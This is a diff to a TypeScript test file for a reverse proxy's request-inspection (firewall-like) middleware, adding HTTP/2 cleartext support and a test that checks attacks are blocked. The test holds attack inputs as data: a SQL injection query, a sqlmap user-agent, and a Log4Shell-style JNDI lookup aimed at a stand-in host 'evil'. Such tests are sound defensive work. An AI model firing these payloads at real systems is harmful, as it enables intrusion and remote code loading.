@@ -156,7 +156,7 @@ function capturedLogger(): { logger: pino.Logger; lines: Record<string, unknown>
   return { logger: pino({ level: 'info' }, sink), lines };
 }
 
-async function webYard(up: Upstream, inspect: unknown, extra: { routes?: unknown[]; logger?: pino.Logger } = {}): Promise<{ y: Yard; port: number }> {
+async function webYard(up: Upstream, inspect: unknown, extra: { routes?: unknown[]; logger?: pino.Logger; h2c?: boolean } = {}): Promise<{ y: Yard; port: number }> {
   const y = await serve(
     {
       listeners: [
@@ -165,6 +165,7 @@ async function webYard(up: Upstream, inspect: unknown, extra: { routes?: unknown
           protocol: 'http',
           address: '127.0.0.1:0',
           middleware: { inspect, accessLog: false },
+          ...(extra.h2c ? { http2: { h2c: true } } : {}),
           routes: extra.routes ?? [{ match: { path: '/*' }, handler: { type: 'proxy', upstream: 'app' } }],
         },
       ],
@@ -338,6 +339,19 @@ test('body: past bodyLimit nothing is inspected; a body longer than the buffer i
   await r2.body.text();
   assert.equal(r2.statusCode, 200);
   assert.equal(up.seen.at(-1)?.body.length, big.length);
+});
+
+test('HTTP/2 (curl, prior knowledge): head and body are inspected the same way; a clean body reaches the upstream whole', async () => {
+  const up = await upstream();
+  const { port } = await webYard(up, true, { h2c: true });
+  const curl = async (args: string[]) => (await run('curl', ['-s', '--http2-prior-knowledge', '-o', '/dev/null', '-w', '%{http_version} %{http_code}', ...args])).stdout;
+  assert.equal(await curl([`http://127.0.0.1:${port}/search?q=1+union+select+2`]), '2 403');
+  assert.equal(await curl(['-A', 'sqlmap/1.7', `http://127.0.0.1:${port}/`]), '2 403');
+  assert.equal(await curl(['--data-binary', 'x=${jndi:ldap://evil/a}', `http://127.0.0.1:${port}/form`]), '2 403');
+  assert.equal(up.seen.length, 0);
+  const body = 'a'.repeat(50_000) + ' nothing to see';
+  assert.equal(await curl(['--data-binary', body, `http://127.0.0.1:${port}/form`]), '2 200');
+  assert.equal(up.seen[0].body, body);
 });
 
 test('log: one warn line per matched rule with its id, client ip and request id; the request goes on', async () => {
